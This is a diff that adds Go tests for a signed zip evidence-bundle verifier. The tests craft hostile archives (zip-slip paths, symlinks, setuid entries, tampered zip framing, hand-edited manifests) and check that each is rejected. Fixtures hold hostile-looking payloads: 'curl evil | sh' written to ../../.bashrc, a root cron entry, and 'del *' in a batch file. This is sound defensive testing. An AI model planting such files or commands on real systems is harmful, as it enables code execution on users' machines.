@@ -5,9 +5,12 @@ import (
 	"bytes"
 	"crypto/ed25519"
 	"crypto/sha256"
+	"encoding/binary"
 	"encoding/hex"
 	"encoding/json"
+	"fmt"
 	"io"
+	"io/fs"
 	"slices"
 	"strings"
 	"testing"
@@ -179,7 +182,8 @@ func TestWriteBundle_Deterministic(t *testing.T) {
 }
 
 func TestWriteBundle_BadPaths(t *testing.T) {
-	for _, p := range []string{"", ".", "/etc/passwd", "../up.txt", "a/../b", "a//b", "a/", "./a", `a\b`, "manifest.json", "manifest.sig", "a\x1b[2Jb"} {
+	for _, p := range []string{"", ".", "/etc/passwd", "../up.txt", "a/../b", "a//b", "a/", "./a", `a\b`, "manifest.json", "manifest.sig", "a\x1b[2Jb",
+		"C:/evil", "c:evil", "a\xffb", "a/./b"} {
 		files := append(bundleFiles(), BundleFile{Path: p, Data: []byte("x")})
 		if _, err := WriteBundle(io.Discard, bundleManifest(), files, nil); err == nil || !strings.Contains(err.Error(), "bundle file") {
 			t.Errorf("path %q: error %v", p, err)
@@ -443,6 +447,432 @@ func TestVerifyBundle_NotABundle(t *testing.T) {
 		v, err := VerifyBundle(bytes.NewReader(tt.bundle), int64(len(tt.bundle)), nil)
 		if err == nil || !strings.Contains(err.Error(), tt.want) || v != nil {
 			t.Errorf("%s: error %v, want %q", tt.name, err, tt.want)
+		}
+	}
+}
+
+// rawEntry is an entry for craftBundle: any name, a mode (0: as WriteBundle
+// writes it), and whether the manifest leaves it out.
+type rawEntry struct {
+	name     string
+	data     []byte
+	mode     fs.FileMode
+	unlisted bool
+}
+
+// craftBundle writes what WriteBundle would if it took any name: entries in
+// order, each listed in the manifest unless unlisted, then manifest.json.
+func craftBundle(t *testing.T, m Manifest, entries []rawEntry, manifestOnly ...string) []byte {
+	t.Helper()
+	for _, e := range entries {
+		if !e.unlisted {
+			sum := sha256.Sum256(e.data)
+			m.Files = append(m.Files, ManifestFile{Path: e.name, SHA256: hex.EncodeToString(sum[:]), Size: int64(len(e.data))})
+		}
+	}
+	for _, p := range manifestOnly {
+		m.Files = append(m.Files, ManifestFile{Path: p, SHA256: strings.Repeat("0", 64)})
+	}
+	manifest, err := json.MarshalIndent(m, "", "  ")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out bytes.Buffer
+	zw := zip.NewWriter(&out)
+	put := func(e rawEntry) {
+		fh := &zip.FileHeader{Name: e.name, Method: zip.Deflate, Modified: bundleAt}
+		if e.mode != 0 {
+			fh.SetMode(e.mode)
+		}
+		w, err := zw.CreateHeader(fh)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := w.Write(e.data); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for _, e := range entries {
+		put(e)
+	}
+	put(rawEntry{name: ManifestName, data: append(manifest, '\n')})
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return out.Bytes()
+}
+
+// cleanEntries are bundleFiles as raw entries, in the order WriteBundle
+// writes them.
+func cleanEntries() []rawEntry {
+	files := bundleFiles()
+	slices.SortFunc(files, func(a, b BundleFile) int { return strings.Compare(a.Path, b.Path) })
+	var out []rawEntry
+	for _, f := range files {
+		out = append(out, rawEntry{name: f.Path, data: f.Data})
+	}
+	return out
+}
+
+func TestVerifyBundle_Unsafe(t *testing.T) {
+	with := func(more ...rawEntry) []rawEntry { return append(cleanEntries(), more...) }
+	escapes := "path escapes the bundle folder: "
+	dotElement := "the path has an empty or . element, which zip tools read differently"
+	tests := []struct {
+		name         string
+		entries      []rawEntry
+		manifestOnly []string
+		problems     string
+	}{
+		{"as WriteBundle writes it", cleanEntries(), nil, ""},
+		{"an executable file", with(rawEntry{name: "run.sh", data: []byte("echo\n"), mode: 0o755}), nil, ""},
+		{"parent folders", with(rawEntry{name: "../../.bashrc", data: []byte("curl evil | sh\n")}), nil,
+			"unsafe ../../.bashrc: " + escapes + "it has a .. element"},
+		{"absolute", with(rawEntry{name: "/etc/cron.d/evil", data: []byte("* * * * * root sh\n")}), nil,
+			"unsafe /etc/cron.d/evil: " + escapes + "it starts with /"},
+		{"backslashes", with(rawEntry{name: `..\..\evil.bat`, data: []byte("del *\n")}), nil,
+			`unsafe ..\..\evil.bat: the path holds a backslash, which Windows reads as a folder separator`},
+		{"drive letter", with(rawEntry{name: "C:/evil", data: []byte("x")}), nil,
+			"unsafe C:/evil: " + escapes + "it starts with a drive letter"},
+		{"drive-relative", with(rawEntry{name: "d:evil", data: []byte("x")}), nil,
+			"unsafe d:evil: " + escapes + "it starts with a drive letter"},
+		{"dot element", with(rawEntry{name: "a/./b", data: []byte("x")}), nil, "unsafe a/./b: " + dotElement},
+		{"empty element", with(rawEntry{name: "a//b", data: []byte("x")}), nil, "unsafe a//b: " + dotElement},
+		{"control character", with(rawEntry{name: "a\x1b[2Jb", data: []byte("x")}), nil,
+			"unsafe a\x1b[2Jb: the path holds a control character"},
+		// JSON cannot hold such a name, so the manifest cannot list it.
+		{"not UTF-8", with(rawEntry{name: "a\xffb", data: []byte("x"), unlisted: true}), nil,
+			"extra a\xffb: in the bundle, not listed in manifest.json\nunsafe a\xffb: the path is not valid UTF-8"},
+		{"a folder", with(rawEntry{name: "docs/"}), nil,
+			"unsafe docs/: entry is a folder\nunsafe docs/: " + dotElement},
+		{"unlisted", with(rawEntry{name: "../evil", unlisted: true}), nil,
+			"extra ../evil: in the bundle, not listed in manifest.json\nunsafe ../evil: " + escapes + "it has a .. element"},
+		{"listed only", cleanEntries(), []string{"/etc/passwd"},
+			"missing /etc/passwd: listed in manifest.json, not in the bundle\nunsafe /etc/passwd: " + escapes + "it starts with /"},
+		{"symbolic link", with(rawEntry{name: "link", data: []byte("/etc/passwd"), mode: fs.ModeSymlink | 0o777}), nil,
+			"unsafe link: entry is a symbolic link"},
+		{"setuid", with(rawEntry{name: "tool", data: []byte("x"), mode: fs.ModeSetuid | 0o755}), nil,
+			"unsafe tool: entry has the setuid, setgid or sticky bit set (mode urwxr-xr-x)"},
+		{"setgid", with(rawEntry{name: "tool", data: []byte("x"), mode: fs.ModeSetgid | 0o755}), nil,
+			"unsafe tool: entry has the setuid, setgid or sticky bit set (mode grwxr-xr-x)"},
+		{"sticky", with(rawEntry{name: "tool", data: []byte("x"), mode: fs.ModeSticky | 0o755}), nil,
+			"unsafe tool: entry has the setuid, setgid or sticky bit set (mode trwxr-xr-x)"},
+		{"named pipe", with(rawEntry{name: "fifo", mode: fs.ModeNamedPipe | 0o644}), nil,
+			"unsafe fifo: entry is not a plain file (mode prw-r--r--)"},
+		{"names that differ only in case", with(rawEntry{name: "REPORT.md", data: []byte("# Other\n")}), nil,
+			"unsafe REPORT.md: differs only in case from \"report.md\"\nunsafe report.md: differs only in case from \"REPORT.md\""},
+		{"non-ASCII case", with(rawEntry{name: "Ärger.md", data: []byte("a")}, rawEntry{name: "äRGER.md", data: []byte("b")}), nil,
+			"unsafe Ärger.md: differs only in case from \"äRGER.md\"\nunsafe äRGER.md: differs only in case from \"Ärger.md\""},
+		{"a second manifest in another case", with(rawEntry{name: "Manifest.JSON", data: []byte("{}"), unlisted: true}), nil,
+			"extra Manifest.JSON: in the bundle, not listed in manifest.json\n" +
+				"unsafe Manifest.JSON: differs only in case from \"manifest.json\"\n" +
+				"unsafe manifest.json: differs only in case from \"Manifest.JSON\""},
+	}
+	for _, tt := range tests {
+		v := verify(t, craftBundle(t, bundleManifest(), tt.entries, tt.manifestOnly...), nil)
+		if got := problems(v); got != tt.problems || v.OK() != (tt.problems == "") {
+			t.Errorf("%s: problems\n%s\nwant\n%s", tt.name, got, tt.problems)
+		}
+	}
+}
+
+func TestFoldKey(t *testing.T) {
+	for _, tt := range []struct {
+		a, b    string
+		same    bool
+		notUTF8 bool // EqualFold takes every such byte for U+FFFD
+	}{
+		{"report.md", "REPORT.md", true, false},
+		{"Ärger", "äRGER", true, false},
+		{"K", "\u212a", true, false}, // Kelvin sign folds to k
+		{"ß", "ss", false, false},    // EqualFold is simple folding only
+		{"a\xff", "a\xfe", false, true},
+		{"a\xff", "A\xff", true, false},
+		{"report.md", "report.mdx", false, false},
+	} {
+		if got := foldKey(tt.a) == foldKey(tt.b); got != tt.same || !tt.notUTF8 && got != strings.EqualFold(tt.a, tt.b) {
+			t.Errorf("foldKey(%q) == foldKey(%q) is %v, want %v (EqualFold %v)", tt.a, tt.b, got, tt.same, strings.EqualFold(tt.a, tt.b))
+		}
+	}
+}
+
+// zipEntry finds a bundle entry by name.
+func zipEntry(t *testing.T, b []byte, name string) *zip.File {
+	t.Helper()
+	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range zr.File {
+		if f.Name == name {
+			return f
+		}
+	}
+	t.Fatalf("no entry %s", name)
+	return nil
+}
+
+func TestVerifyBundle_Framing(t *testing.T) {
+	signed, _ := writeBundle(t, testKey(1))
+	edit := func(fn func(b []byte) []byte) []byte { return fn(slices.Clone(signed)) }
+	eocd := len(signed) - 22
+	cdOffset := int(binary.LittleEndian.Uint32(signed[eocd+16:]))
+	// The first entry, answers.json, starts at byte 0 with its name at 30.
+	first := zipEntry(t, signed, "answers.json")
+	descriptor, err := first.DataOffset()
+	if err != nil {
+		t.Fatal(err)
+	}
+	descriptor += int64(first.CompressedSize64)
+
+	tests := []struct {
+		name     string
+		bundle   []byte
+		problems string
+	}{
+		{"as written", signed, ""},
+		{"bytes prepended", append([]byte("#!/bin/sh\nexit 0\n"), signed...),
+			"framing (archive): 17 bytes come before the first entry, which warroom does not write"},
+		{"local header names another file", edit(func(b []byte) []byte {
+			copy(b[30:], "answerz.json")
+			return b
+		}), `framing answers.json: the local header names the entry "answerz.json", the central directory "answers.json"`},
+		{"local header gives another method", edit(func(b []byte) []byte {
+			binary.LittleEndian.PutUint16(b[8:], zip.Store)
+			return b
+		}), "framing answers.json: the local header gives compression method 0, the central directory 8"},
+		{"local header gives other flags", edit(func(b []byte) []byte {
+			b[7] |= 0x08 // bit 11: UTF-8 names
+			return b
+		}), "framing answers.json: the local header gives flags 0x0808, the central directory 0x0008"},
+		{"local header gives another time", edit(func(b []byte) []byte {
+			b[10] ^= 0x01
+			return b
+		}), "framing answers.json: the local header gives another modification time than the central directory"},
+		{"local header gives sizes", edit(func(b []byte) []byte {
+			b[22] = 0x01
+			return b
+		}), "framing answers.json: the local header gives a checksum or sizes although a data descriptor follows the data"},
+		{"data descriptor gives another size", edit(func(b []byte) []byte {
+			b[descriptor+8] ^= 0x01
+			return b
+		}), "framing answers.json: the data descriptor gives other sizes than the central directory"},
+		{"data descriptor gives another checksum", edit(func(b []byte) []byte {
+			b[descriptor+4] ^= 0x01
+			return b
+		}), "altered answers.json: cannot be read: zip: checksum error\n" +
+			"framing answers.json: no data descriptor with the central directory's checksum follows the data"},
+		{"archive comment", func() []byte {
+			b := slices.Clone(signed)
+			comment := "approved by the auditor"
+			binary.LittleEndian.PutUint16(b[len(b)-2:], uint16(len(comment)))
+			return append(b, comment...)
+		}(), "framing (archive): the archive has a comment (23 bytes), which warroom does not write"},
+		{"bytes appended", append(slices.Clone(signed), "trailer"...),
+			"framing (archive): the file does not end with the zip's end-of-central-directory record: bytes follow it, which warroom does not write"},
+		{"bytes before the central directory", func() []byte {
+			b := slices.Concat(signed[:cdOffset], []byte("hidden"), signed[cdOffset:])
+			binary.LittleEndian.PutUint32(b[len(b)-6:], uint32(cdOffset+6))
+			return b
+		}(), "framing (archive): 6 bytes lie between the last entry and the central directory, which warroom does not write"},
+		{"central directory moved", edit(func(b []byte) []byte {
+			binary.LittleEndian.PutUint32(b[len(b)-6:], uint32(cdOffset+1))
+			return b
+		}), ""}, // not a zip any more: an error, below
+		{"bytes at the end of the central directory", func() []byte {
+			b := slices.Concat(signed[:eocd], []byte("hidden"), signed[eocd:])
+			size := binary.LittleEndian.Uint32(b[len(b)-10:])
+			binary.LittleEndian.PutUint32(b[len(b)-10:], size+6)
+			binary.LittleEndian.PutUint32(b[len(b)-6:], uint32(cdOffset))
+			return b
+		}(), "framing (archive): the central directory holds 6 bytes besides its entry records"},
+	}
+	for _, tt := range tests {
+		v, err := VerifyBundle(bytes.NewReader(tt.bundle), int64(len(tt.bundle)), pubOf(testKey(1)))
+		if tt.name == "central directory moved" {
+			if err == nil {
+				t.Errorf("%s: verified:\n%s", tt.name, problems(v))
+			}
+			continue
+		}
+		if err != nil {
+			t.Errorf("%s: %v", tt.name, err)
+			continue
+		}
+		if got := problems(v); got != tt.problems || v.OK() != (tt.problems == "") {
+			t.Errorf("%s: problems\n%s\nwant\n%s", tt.name, got, tt.problems)
+		}
+		if v.KeyID != KeyID(pubOf(testKey(1))) || v.Manifest.CreatedBy != "dana" {
+			t.Errorf("%s: key %s, manifest %+v", tt.name, v.KeyID, v.Manifest)
+		}
+	}
+}
+
+func TestVerifyBundle_Zip64(t *testing.T) {
+	if testing.Short() {
+		t.Skip("writes and verifies 65,600 entries")
+	}
+	// Past 65,534 files the zip needs zip64 end records.
+	files := make([]BundleFile, 65_600)
+	for i := range files {
+		files[i] = BundleFile{Path: fmt.Sprintf("f/%05d", i)}
+	}
+	var b bytes.Buffer
+	if _, err := WriteBundle(&b, bundleManifest(), files, testKey(1)); err != nil {
+		t.Fatal(err)
+	}
+	if tail := b.Bytes()[b.Len()-22-20-56:]; binary.LittleEndian.Uint32(tail) != 0x06064b50 {
+		t.Fatal("the bundle has no zip64 end record")
+	}
+	if v := verify(t, b.Bytes(), pubOf(testKey(1))); !v.OK() || len(v.Manifest.Files) != len(files) {
+		t.Errorf("problems\n%s", problems(v))
+	}
+	for name, bad := range map[string][]byte{
+		"bytes prepended": append([]byte("junk"), b.Bytes()...),
+		"bytes appended":  append(slices.Clone(b.Bytes()), "junk"...),
+	} {
+		if v, err := VerifyBundle(bytes.NewReader(bad), int64(len(bad)), nil); err == nil && v.OK() {
+			t.Errorf("%s: verified", name)
+		}
+	}
+}
+
+func TestVerifyBundle_Limits(t *testing.T) {
+	signed, _ := writeBundle(t, testKey(1))
+	sigOf := func(size int) []byte {
+		return rezip(t, signed, func(name string, d []byte) ([]byte, bool) {
+			if name == SignatureName {
+				return append(bytes.Repeat([]byte(" "), size-len(d)), d...), true
+			}
+			return d, true
+		})
+	}
+	if v := verify(t, sigOf(64<<10), pubOf(testKey(1))); !v.OK() {
+		t.Errorf("a 64 KiB manifest.sig: problems\n%s", problems(v))
+	}
+	if got := problems(verify(t, sigOf(64<<10+1), pubOf(testKey(1)))); got != "signature manifest.sig: cannot be read: larger than 64 KiB" {
+		t.Errorf("a manifest.sig of 64 KiB and 1 byte: problems\n%s", got)
+	}
+
+	huge := strings.Repeat("x", 16<<20)
+	big := rezip(t, signed, editManifest(t, func(m *Manifest) { m.CreatedBy = huge }))
+	if v, err := VerifyBundle(bytes.NewReader(big), int64(len(big)), nil); err == nil ||
+		err.Error() != "manifest.json cannot be read, so nothing can be verified: larger than 16 MiB" {
+		t.Errorf("a manifest.json over 16 MiB: error %v, %v", err, v)
+	}
+	m := bundleManifest()
+	m.CreatedBy = huge
+	if _, err := WriteBundle(io.Discard, m, bundleFiles(), nil); err == nil || !strings.Contains(err.Error(), "verify reads at most 16 MiB") {
+		t.Errorf("WriteBundle of a manifest over 16 MiB: error %v", err)
+	}
+
+	if _, err := WriteBundle(io.Discard, bundleManifest(), make([]BundleFile, 99_999), nil); err == nil ||
+		err.Error() != "a bundle holds at most 99998 files, not 99999" {
+		t.Errorf("WriteBundle of 99,999 files: error %v", err)
+	}
+	var many bytes.Buffer
+	zw := zip.NewWriter(&many)
+	for i := range 100_001 {
+		if _, err := zw.CreateHeader(&zip.FileHeader{Name: fmt.Sprintf("%06d", i), Method: zip.Store}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if v, err := VerifyBundle(bytes.NewReader(many.Bytes()), int64(many.Len()), nil); err == nil ||
+		err.Error() != "the zip has 100001 entries; verify reads at most 100000, and warroom never writes more" {
+		t.Errorf("a zip of 100,001 entries: error %v, %v", err, v)
+	}
+}
+
+func TestVerifyBundle_NotCanonical(t *testing.T) {
+	unsigned, _ := writeBundle(t, nil)
+	withManifest := func(fn func(d []byte) []byte) []byte {
+		return rezip(t, unsigned, func(name string, d []byte) ([]byte, bool) {
+			if name == ManifestName {
+				return fn(d), true
+			}
+			return d, true
+		})
+	}
+	replace := func(old, new string) []byte {
+		return withManifest(func(d []byte) []byte {
+			if !bytes.Contains(d, []byte(old)) {
+				t.Fatalf("manifest.json lacks %q", old)
+			}
+			return bytes.Replace(d, []byte(old), []byte(new), 1)
+		})
+	}
+	tests := []struct {
+		name   string
+		bundle []byte
+		line   int
+	}{
+		{"a key in another case added", replace(`  "created_by": "dana",`, "  \"created_by\": \"dana\",\n  \"Created_By\": \"mallory\","), 10},
+		{"a key in another case", replace(`"created_by": "dana"`, `"CREATED_BY": "dana"`), 10},
+		{"a key repeated", replace(`  "created_by": "dana",`, "  \"created_by\": \"mallory\",\n  \"created_by\": \"dana\","), 10},
+		{"an unknown key", replace(`  "tool": "warroom test",`, "  \"tool\": \"warroom test\",\n  \"approved\": true,"), 5},
+		{"keys in another order", replace("  \"format\": \"warroom-evidence-bundle\",\n  \"version\": 1,",
+			"  \"version\": 1,\n  \"format\": \"warroom-evidence-bundle\","), 2},
+		{"another escape", replace(`"dana"`, `"\u0064ana"`), 10},
+		{"compact", withManifest(func(d []byte) []byte {
+			var b bytes.Buffer
+			if err := json.Compact(&b, d); err != nil {
+				t.Fatal(err)
+			}
+			return b.Bytes()
+		}), 1},
+		{"no final newline", withManifest(func(d []byte) []byte { return bytes.TrimSuffix(d, []byte("\n")) }), 0},
+	}
+	for _, tt := range tests {
+		v, err := VerifyBundle(bytes.NewReader(tt.bundle), int64(len(tt.bundle)), nil)
+		want := "manifest.json is not in the form warroom writes ("
+		if tt.line > 0 {
+			want += fmt.Sprintf("line %d differs", tt.line)
+		}
+		if err == nil || !strings.HasPrefix(err.Error(), want) || !strings.Contains(err.Error(), "changed by hand") || v != nil {
+			t.Errorf("%s: error %v, want %q…", tt.name, err, want)
+		}
+	}
+}
+
+func TestVerifyBundle_MilestoneDigest(t *testing.T) {
+	assessment := []byte(`{"workload":"payments","questions":[]}`)
+	files := append(bundleFiles(), BundleFile{Path: AssessmentName, Data: assessment})
+	bundle := func(digest string) []byte {
+		m := bundleManifest()
+		m.Milestone.Digest = digest
+		var b bytes.Buffer
+		if _, err := WriteBundle(&b, m, files, testKey(1)); err != nil {
+			t.Fatal(err)
+		}
+		return b.Bytes()
+	}
+	sum := sha256.Sum256(assessment)
+	digest := "sha256:" + hex.EncodeToString(sum[:])
+	good := bundle(digest)
+	other := sha256.Sum256([]byte("another assessment"))
+	tests := []struct {
+		name     string
+		bundle   []byte
+		problems string
+	}{
+		{"matches", good, ""},
+		{"another digest", bundle("sha256:" + hex.EncodeToString(other[:])),
+			"altered milestone/assessment.json: does not match the milestone digest in the manifest (digest sha256:" +
+				hex.EncodeToString(other[:])[:12] + "…, file sha256:" + hex.EncodeToString(sum[:])[:12] + "…)"},
+		{"file replaced", rezip(t, good, func(name string, d []byte) ([]byte, bool) {
+			if name == AssessmentName {
+				return []byte(`{"workload":"payments","questions":[1]}`), true
+			}
+			return d, true
+		}), "altered milestone/assessment.json: size differs (manifest 38 bytes, file more)"},
+	}
+	for _, tt := range tests {
+		v := verify(t, tt.bundle, pubOf(testKey(1)))
+		if got := problems(v); got != tt.problems || v.OK() != (tt.problems == "") {
+			t.Errorf("%s: problems\n%s\nwant\n%s", tt.name, got, tt.problems)
 		}
 	}
 }
